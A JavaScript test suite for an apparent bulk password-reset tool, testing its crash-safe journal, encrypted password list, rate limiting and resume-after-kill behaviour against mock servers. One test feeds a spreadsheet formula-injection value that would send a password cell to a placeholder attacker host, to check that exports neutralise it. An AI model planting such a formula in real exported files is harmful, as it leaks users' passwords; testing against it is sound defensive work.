// The journal of a file, the list that is sealed beside it, and what becomes of rows.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, beforeEach, describe as suite, test } from "node:test";
import { fileURLToPath } from "node:url";
import { FileJob, rateOf } from "../../desk/file-job.js";
import { Journal } from "../../desk/journal.js";
import { NotSent } from "../../desk/live.js";
import { newSeal, sealer, unseal } from "../../desk/sealed.js";

const folder = mkdtempSync(join(tmpdir(), "resetkit-journal-"));
let path, count = 0;
beforeEach(() => {
  path = join(folder, `${count++}.journal`);
});
after(() => rmSync(folder, { recursive: true, force: true }));

const JOB = { operation: "synapse:ResetPassword", place: "{}", count: 4 };

suite("the journal", () => {
  async function written() {
    const journal = Journal.open(path, JOB);
    for (const [row, state] of [[1, "done"], [2, "failed:M_NOT_FOUND"], [3, "unknown:500"], [4]]) {
      await journal.intent(row, `@user${row}:example.com`);
      if (state) journal.outcome(row, state);
    }
    return journal;
  }

  test("says what became of each row when it is opened again", async () => {
    (await written()).close();
    const again = Journal.open(path, JOB);
    assert.equal(again.resumed, true);
    assert.deepEqual([...again.rows].map(([row, { state }]) => [row, state]), [[1, "done"], [2, "failed:M_NOT_FOUND"], [3, "unknown:500"], [4, "sending"]]);
    assert.equal(again.rows.get(1).target, again.mark("@user1:example.com"));
    assert.notEqual(again.rows.get(1).target, again.mark("@user2:example.com"));
    again.close();
  });

  test("holds no name and is its owner's alone", async () => {
    (await written()).close();
    assert.doesNotMatch(readFileSync(path, "utf8"), /user\d|example\.com/);
    assert.equal(statSync(path).mode & 0o777, 0o600);
  });

  test("cut at every byte, it never says more than was done", async () => {
    (await written()).close();
    const bytes = readFileSync(path);
    const whole = { 1: ["done"], 2: ["failed:M_NOT_FOUND"], 3: ["unknown:500"], 4: [] };
    for (let length = 0; length <= bytes.length; length++) {
      const cut = join(folder, "cut.journal");
      writeFileSync(cut, bytes.subarray(0, length));
      const journal = Journal.open(cut, JOB);
      for (const [row, { state }] of journal.rows) assert.ok(state === "sending" || whole[row].includes(state), `${length}: ${row} is ${state}`);
      // A row whose outcome was read was sent before.
      await journal.intent(9, "x");
      journal.close();
      const again = Journal.open(cut, JOB);
      assert.equal(again.rows.get(9)?.state, "sending", `${length}`);
      assert.equal(again.rows.size, journal.rows.size);
      again.close();
    }
  });

  test("is one job's, and one process's", async () => {
    const journal = await written();
    assert.throws(() => Journal.open(path, JOB), { code: "locked" });
    journal.close();
    for (const other of [{ operation: "okta:UpdateUser" }, { place: '{"region":"eu-west-1"}' }, { count: 5 }]) assert.throws(() => Journal.open(path, { ...JOB, ...other }), { code: "other_job" });
    assert.ok(!existsSync(`${path}.lock`));
    // What a process that is gone left behind keeps nobody out.
    writeFileSync(`${path}.lock`, "4194304");
    Journal.open(path, JOB).close();
    // In a container, a process has the number that the one before it had.
    writeFileSync(`${path}.lock`, String(process.pid));
    Journal.open(path, JOB).close();
  });
});

suite("the sealed list", () => {
  const { code, seal } = newSeal();
  const line = sealer(seal)(7, "Zq7!vK2?tN9~é中");

  test("opens by the code that was shown, and by no other", () => {
    assert.match(code, /^[\w-]{43}$/);
    assert.equal(unseal(code, 7, line), "Zq7!vK2?tN9~é中");
    assert.throws(() => unseal(newSeal().code, 7, line));
    assert.throws(() => unseal(seal, 7, line));
    assert.throws(() => unseal(code, 8, line));
  });

  test("a changed bit anywhere is refused", () => {
    const bytes = Buffer.from(line, "base64url");
    for (let place = 0; place < bytes.length; place++) {
      const changed = Buffer.from(bytes);
      changed[place] ^= 1;
      assert.throws(() => unseal(code, 7, changed.toString("base64url")), undefined, `${place}`);
    }
  });

  test("the length of a secret is not seen", () => {
    const lengths = ["", "a", "b".repeat(62)].map((secret) => sealer(seal)(1, secret).length);
    assert.equal(new Set(lengths).size, 1);
  });
});

suite("the rows of a file", () => {
  const OP = "synapse:ResetPassword";
  const input = (row, newPassword = `Start-Here-${row}!`) => ({ userId: `@user${row}:example.com`, newPassword, logoutDevices: true });
  const ok = { status: 200, headers: {}, body: "{}" };
  const refused = (status, errcode, more) => ({ status, headers: {}, body: JSON.stringify({ errcode, error: "no", ...more }) });
  const open = (send, { operation = OP, rows = 4, ...more } = {}) => new FileJob({ path, operation, place: {}, count: rows, send, audit: () => {}, perSecond: 1000, ...more });
  const fill = (job, rows = 4, make = input) => {
    for (let row = 1; row <= rows; row++) job.add(row, make(row));
    return job;
  };
  const states = (job) => [...job.journal.rows].sort(([one], [other]) => one - other).map(([, { state }]) => state);

  test("what is done is never sent again, and a refusal not by itself", async () => {
    const sent = [];
    const send = async ({ userId }) => {
      sent.push(userId);
      return userId === "@user2:example.com" && sent.length < 9 ? refused(404, "M_NOT_FOUND") : ok;
    };
    const job = fill(open(send));
    await job.run();
    assert.deepEqual([job.state, sent.length, states(job)], ["ended", 4, ["done", "failed:M_NOT_FOUND", "done", "done"]]);
    assert.deepEqual(job.progress.reasons.map(({ kind, code, rows, first, meaning }) => [kind, code, rows, first, meaning]), [["failed", "M_NOT_FOUND", 1, [2], "The server has no such account."]]);
    job.close();
    sent.length = 10;
    const again = fill(open(send));
    await again.run();
    assert.equal(sent.length, 10);
    await again.run({ again: true });
    assert.deepEqual([sent.slice(10), states(again)], [["@user2:example.com"], ["done", "done", "done", "done"]]);
    again.close();
  });

  test("a service that is too busy is given the time that it asks for, by all rows", async () => {
    const times = [];
    const job = fill(open(async () => {
      times.push(performance.now());
      return times.length === 1 ? refused(429, "M_LIMIT_EXCEEDED", { retry_after_ms: 300 }) : ok;
    }, { perSecond: 20 }));
    await job.run();
    assert.deepEqual(states(job), ["done", "done", "done", "done"]);
    assert.equal(times.length, 5);
    assert.ok(times.at(-1) - times[0] >= 300);
    job.close();
  });

  test("without a response: again where that does no harm, never where it does", async () => {
    for (const { operation, make, expected } of [
      { operation: OP, make: input, expected: { sent: 5, states: ["done", "done", "done", "done"] } },
      { operation: "okta:ExpirePasswordWithTempPassword", make: (row) => ({ id: `00u1a2b3c4d5e6F7g8h${row}` }), expected: { sent: 4, states: ["unknown:no_response", "done", "done", "done"] } },
    ]) {
      rmSync(path, { force: true });
      let sent = 0;
      const send = async () => {
        sent += 1;
        if (sent === 1) throw new Error("unknown");
        return { status: 200, headers: {}, body: operation === OP ? "{}" : '{"tempPassword":"Abcd1234"}' };
      };
      const job = fill(open(send, { operation }), 4, make);
      await job.run();
      assert.deepEqual({ sent, states: states(job) }, expected);
      job.close();
      const again = fill(open(send, { operation }), 4, make);
      await again.run();
      assert.deepEqual({ sent, states: states(again) }, expected);
      again.close();
    }
  });

  test("a row in doubt whose second request is refused stays in doubt, with both passwords", async () => {
    const first = open(() => new Promise(() => {}), { rows: 1 });
    first.add(1, input(1, "First-Wortlaut-1"));
    const { code } = first;
    first.run();
    while (first.journal.rows.get(1)?.state !== "sending") await new Promise((resolve) => setTimeout(resolve, 5));
    // Killed here: the lock of a process that is gone.
    const killed = join(folder, "killed.journal");
    copyFileSync(path, killed);
    copyFileSync(`${path}.sealed`, `${killed}.sealed`);
    path = killed;
    const second = open(async () => refused(400, "M_PASSWORD_TOO_SHORT"), { rows: 1 });
    second.add(1, input(1, "Second-Wortlaut-2"));
    assert.equal(second.code, undefined);
    await second.run();
    assert.deepEqual(states(second), ["unknown:M_PASSWORD_TOO_SHORT"]);
    assert.equal(second.list(code), '"row","userId","newPassword","outcome"\r\n"1","\'@user1:example.com","First-Wortlaut-1","unknown"\r\n"1","\'@user1:example.com","Second-Wortlaut-2","unknown"\r\n');
    assert.throws(() => second.list(newSeal().code));
    second.close();
  });

  test("what was sealed for a row that was never sent leaves the list open", async () => {
    Journal.open(path, { operation: OP, place: "{}", count: 1 }, { seal: newSeal().seal }).close();
    writeFileSync(`${path}.sealed`, `1 ${sealer(newSeal().seal)(1, "{}")}\n`);
    const job = open(async () => ok, { rows: 1 });
    job.add(1, input(1));
    await job.run();
    assert.equal(job.list(job.code), '"row","userId","newPassword","outcome"\r\n"1","\'@user1:example.com","Start-Here-1!","done"\r\n');
    job.close();
  });

  test("another person in a row is refused", async () => {
    const job = fill(open(async () => ok));
    await job.run();
    job.close();
    const other = open(async () => ok);
    assert.throws(() => other.add(1, input(2)), { code: "other_rows" });
    other.close();
  });

  test("what never left this machine pauses the file, and goes when it goes on", async () => {
    let signedIn = false, sent = 0;
    const job = fill(open(async () => {
      if (!signedIn) throw new NotSent("sso_expired", { run: "aws sso login" });
      sent += 1;
      return ok;
    }));
    const done = job.run();
    while (job.state !== "paused") await new Promise((resolve) => setTimeout(resolve, 5));
    assert.deepEqual(job.reason, { code: "sso_expired", run: "aws sso login" });
    signedIn = true;
    while (states(job).includes("sending")) await new Promise((resolve) => setTimeout(resolve, 5));
    job.goOn();
    await done;
    assert.deepEqual([sent, states(job)], [4, ["done", "done", "done", "done"]]);
    job.close();
  });

  test("five refusals of the credentials in a row pause it", async () => {
    let sent = 0;
    const job = fill(open(async () => {
      sent += 1;
      return refused(401, "M_UNKNOWN_TOKEN");
    }, { rows: 100 }), 100);
    const done = job.run();
    while (job.state !== "paused") await new Promise((resolve) => setTimeout(resolve, 5));
    assert.equal(job.reason.code, "denied");
    assert.ok(sent < 20, `${sent}`);
    job.stop();
    await done;
    assert.equal(job.state, "stopped");
    job.close();
  });

  test("stopped and started again while requests are under way, no row goes twice", async () => {
    const sent = [], answers = [];
    const send = ({ id }) => {
      sent.push(id);
      return new Promise((resolve) => answers.push(() => resolve({ status: 200, headers: {}, body: '{"tempPassword":"Made-By-Okta-1"}' })));
    };
    const rows = 40, make = (row) => ({ id: `00u1a2b3c4d5e6F7${1000 + row}` });
    const job = fill(open(send, { operation: "okta:ExpirePasswordWithTempPassword", rows, perSecond: 100 }), rows, make);
    const first = job.run();
    while (sent.length === 0) await new Promise((resolve) => setTimeout(resolve, 5));
    job.stop();
    assert.equal(job.state, "stopping");
    assert.equal(job.progress.unknown, 0);
    assert.throws(() => job.run(), { code: "running" });
    const answered = setInterval(() => answers.splice(0).forEach((answer) => answer()), 5);
    await first;
    assert.equal(job.state, "stopped");
    assert.ok(sent.length < rows);
    await job.run();
    clearInterval(answered);
    assert.deepEqual([job.state, sent.length, new Set(sent).size, new Set(states(job))], ["ended", rows, rows, new Set(["done"])]);
    job.close();
  });

  test("it ends at once where it waits for the service, and with the outcome of what is under way", async () => {
    let answer;
    const job = fill(open(({ userId }) => (userId === "@user1:example.com"
      ? new Promise((resolve) => (answer = () => resolve(ok)))
      : Promise.resolve(refused(429, "M_LIMIT_EXCEEDED", { retry_after_ms: 300_000 })))));
    job.run();
    while (job.progress.waits === 0) await new Promise((resolve) => setTimeout(resolve, 5));
    const closed = job.close();
    assert.throws(() => Journal.open(path, {}), { code: "locked" });
    answer();
    await closed;
    assert.equal(job.state, "stopped");
    const again = fill(open(async () => ok));
    assert.deepEqual(states(again), ["done", "failed:throttled", "failed:throttled", "failed:throttled"]);
    again.close();
  });

  test("refusals that are the last rows leave nothing to go on with", async () => {
    let isKnown = false;
    const job = fill(open(async () => (isKnown ? ok : refused(401, "M_UNKNOWN_TOKEN")), { rows: 5 }), 5);
    await job.run();
    assert.equal(job.state, "ended");
    isKnown = true;
    await job.run({ again: true });
    assert.equal(job.progress.done, 5);
    job.close();
  });

  test("a secret that the service makes is in the list, and nowhere else", async () => {
    const lines = [];
    const job = open(async () => ({ status: 200, headers: {}, body: '{"tempPassword":"Made-By-Okta-1"}' }), { operation: "okta:ExpirePasswordWithTempPassword", rows: 1, audit: (line) => lines.push(JSON.stringify(line)) });
    job.add(1, { id: "00u1a2b3c4d5e6F7g8h9" });
    await job.run();
    assert.equal(job.list(job.code), '"row","id","tempPassword","outcome"\r\n"1","00u1a2b3c4d5e6F7g8h9","Made-By-Okta-1","done"\r\n');
    job.close();
    for (const text of [readFileSync(path, "utf8"), readFileSync(`${path}.sealed`, "utf8"), job.report(), lines.join()]) assert.ok(!text.includes("Made-By-Okta-1"));
  });

  test("the rate is four fifths of what the provider documents, and modest where it documents nothing", () => {
    assert.deepEqual(["okta:UpdateUser", "workmail:ResetPassword", "graph:UpdateUser"].map(rateOf), [8, 10, 50]);
  });

  test("neither report nor list is a formula", async () => {
    const job = open(async () => ok, { operation: "scim:PatchUser", rows: 1 });
    job.add(1, { id: "=1+1", password: "Zq7!vK2?tN9~" });
    await job.run();
    assert.equal(job.report(), '"row","id","outcome"\r\n"1","\'=1+1","unknown:unreadable_answer"\r\n'.replace("unknown:unreadable_answer", job.journal.rows.get(1).state));
    job.close();
  });

  test("the list of passwords holds them as they are, and its people as texts", async () => {
    const people = ["=HYPERLINK(\"http://evil.example/?p=\"&C2)", "＝1", "ada;=1+1", "ada"];
    const job = open(async () => ({ status: 204, headers: {}, body: "" }), { operation: "scim:PatchUser", rows: people.length });
    people.forEach((id, row) => job.add(row + 1, { id, password: "=q7!vK2?tN9~" }));
    await job.run();
    assert.deepEqual(job.list(job.code).split("\r\n").slice(1, -1), [
      '"1","\'=HYPERLINK(""http://evil.example/?p=""&C2)","=q7!vK2?tN9~","done"',
      '"2","\'＝1","=q7!vK2?tN9~","done"', '"3","ada;\'=1+1","=q7!vK2?tN9~","done"', '"4","ada","=q7!vK2?tN9~","done"',
    ]);
    job.close();
  });
});

suite("killed in the middle of a file", () => {
  const ROWS = 400;
  /** Writes down whom it reset, loses responses, refuses and is busy now and then. */
  async function recorder() {
    const did = new Map();
    let asked = 0;
    const server = createServer(async (request, response) => {
      let body = "";
      for await (const chunk of request) body += chunk;
      const user = decodeURIComponent(/\/users\/([^/]+)\/lifecycle/.exec(request.url)?.[1] ?? request.url.split("/").at(-1));
      asked += 1;
      if (asked % 37 === 0) return response.writeHead(429).end(JSON.stringify({ errcode: "M_LIMIT_EXCEEDED", error: "wait", retry_after_ms: 10 }));
      if (asked % 53 === 0) return response.writeHead(404).end(JSON.stringify({ errcode: "M_NOT_FOUND", error: "no" }));
      did.set(user, [...(did.get(user) ?? []), body && JSON.parse(body).new_password]);
      if (asked % 41 === 0) return request.socket.destroy();
      return setTimeout(() => response.end(request.url.includes("expire_password") ? '{"tempPassword":"Made-Here-1"}' : "{}"), 2);
    });
    await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
    return { did, address: `http://127.0.0.1:${server.address().port}`, close: () => {
      server.closeAllConnections();
      server.close();
    } };
  }

  const environment = { ...process.env, RESETKIT_TOKEN_SYNAPSE: "T0K-of-an-admin", OKTA_CLIENT_TOKEN: "T0K-of-an-admin" };
  const worker = fileURLToPath(new URL("worker.mjs", import.meta.url));

  const run = (command, words) => new Promise((resolve) => {
    const child = spawn(command, words, { env: environment });
    let said = "";
    for (const stream of [child.stdout, child.stderr]) stream.on("data", (chunk) => (said += chunk));
    child.on("close", (code) => resolve({ code, said }));
  });

  test("where the disk is full nothing more is sent, and it goes on once there is room", async () => {
    const { did, address, close } = await recorder();
    const order = [worker, address, path, "synapse:ResetPassword", "100"];
    try {
      // The largest file that it may write, in blocks of 512 bytes.
      const full = await run("sh", ["-c", 'ulimit -f 15; exec "$0" "$@"', process.execPath, ...order]);
      assert.match(full.said, /EFBIG/);
      const before = did.size;
      assert.ok(before > 10 && before < 60, `${before}`);
      assert.equal((await run(process.execPath, order)).code, 0);
      const job = new FileJob({ path, operation: "synapse:ResetPassword", place: {}, count: 100, send: () => {}, audit: () => {} });
      const listed = job.list(full.said.split("\n")[0]).trim().split("\r\n").slice(1).map((row) => JSON.parse(`[${row}]`)).filter(([, , , outcome]) => outcome === "done");
      const { done, left } = job.progress;
      job.close();
      assert.deepEqual([left, listed.length], [0, done]);
      assert.ok(done > before);
      for (const [, user, password] of listed) assert.equal(did.get(user.replace(/^'/, "")).at(-1), password);
    } finally {
      close();
    }
  });

  for (const operation of ["synapse:ResetPassword", "okta:ExpirePasswordWithTempPassword"]) {
    test(`${operation}: killed and started until it ends, the journal says what was done`, async () => {
      const { did, address, close } = await recorder();
      let kills = 0, code, signal, first = "", output = "";
      try {
        do {
          const child = spawn(process.execPath, [worker, address, path, operation, String(ROWS)], { env: environment });
          let said = "";
          child.stdout.on("data", (chunk) => (said += chunk));
          child.stderr.on("data", (chunk) => (output += chunk));
          // Killed once some rows were sent by this process.
          const before = did.size;
          const timer = kills < 4 ? setInterval(() => did.size > before + 25 && child.kill("SIGKILL"), 5) : undefined;
          [code, signal] = await new Promise((resolve) => child.on("exit", (...ended) => resolve(ended)));
          clearInterval(timer);
          if (signal) kills += 1;
          first ||= said.trim();
          output += said;
        } while (signal === "SIGKILL");
      } finally {
        close();
      }
      assert.deepEqual([code, kills], [0, 4], output.slice(0, 500));
      const lines = readFileSync(path, "utf8").split("\n").slice(1).filter(Boolean).map((line) => JSON.parse(line));
      const state = new Map();
      for (const line of lines) state.set(line.intent ?? line.outcome, line.state ?? "sending");
      assert.equal(state.size, ROWS);
      const idempotent = operation === "synapse:ResetPassword";
      const userOf = (row) => (idempotent ? `@user${row}:example.com` : `00u1a2b3c4d5e6F${10_000 + row}`);
      for (const [row, what] of state) {
        const times = did.get(userOf(row))?.length ?? 0;
        if (what === "done") assert.ok(idempotent ? times >= 1 : times === 1, `row ${row}, ${times} times`);
        if (what.startsWith("failed")) assert.equal(times, 0, `row ${row}`);
        // None that must not be done twice was.
        if (!idempotent) assert.ok(times <= 1, `row ${row}, ${times} times`);
      }
      const count = (start) => [...state.values()].filter((what) => what.startsWith(start)).length;
      assert.equal(count("sending"), 0);
      if (!idempotent) assert.ok(count("unknown") > 0);
      // The code that the first process showed opens the list of all of them.
      const job = new FileJob({ path, operation, place: {}, count: ROWS, send: () => {}, audit: () => {} });
      const list = job.list(first);
      job.close();
      const listed = list.trim().split("\r\n").slice(1).map((row) => /^"(\d+)","([^"]*)","((?:[^"]|"")*)","(done|unknown)"$/.exec(row));
      assert.equal(listed.filter(([, , , , what]) => what === "done").length, count("done"));
      if (idempotent) for (const [, , user, password] of listed) assert.equal(did.get(user.replace(/^'/, "")).at(-1), password.replaceAll('""', '"'));
      const journal = readFileSync(path, "utf8") + readFileSync(`${path}.sealed`, "utf8") + output.replace(first, "");
      assert.doesNotMatch(journal, /user\d|New-Pass|Made-Here|T0K-of/);
    });
  }
});
